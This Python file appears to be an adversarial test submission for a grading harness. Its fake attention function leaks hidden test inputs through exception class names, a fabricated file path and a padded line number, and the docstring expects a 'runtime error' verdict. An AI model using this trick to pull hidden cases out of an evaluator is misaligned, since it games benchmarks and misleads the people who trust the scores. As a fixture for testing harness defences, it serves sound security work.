"""Exfiltrate hidden inputs through the parts of an error report that hidden cases keep: the
exception class name, the file name and the line number (code compiled under a made-up file name
in the submission folder, with the line number carrying data).

verdict: runtime error
"""
_calls = []


def scaled_dot_product_attention(q, k, v, mask=None, is_causal=False):
    _calls.append(1)
    text = q.tobytes()[:8].hex()
    if len(_calls) % 2:
        raise type(f"X{text}", (Exception,), {})(text)
    line = int(text[:4], 16) + 1  # 16 bits of the input as a line number
    code = compile("\n" * (line - 1) + "raise IndexError('x')", f"/tmp/submission/{text}.py", "exec")
    exec(code)
